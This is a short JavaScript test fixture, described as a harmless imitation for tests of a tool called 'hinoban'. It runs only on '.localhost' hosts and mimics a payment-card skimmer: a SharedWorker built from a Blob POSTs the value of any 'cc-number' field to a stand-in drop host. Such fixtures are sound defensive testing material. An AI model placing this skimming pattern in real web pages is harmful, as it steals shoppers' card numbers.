/* Harmless imitation, for hinoban's tests: a shared worker that sends. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
(function () {
	var w = new SharedWorker(URL.createObjectURL(new Blob(["onconnect = function (e) { e.ports[0].onmessage = function (m) { fetch(m.data[0], {method: 'POST', mode: 'no-cors', body: m.data[1]}); }; };"])));
	document.addEventListener('change', function (e) {
		if (e.target.autocomplete === 'cc-number') w.port.postMessage(['http://drop.localhost:' + location.port + '/c', e.target.value]);
	});
})();
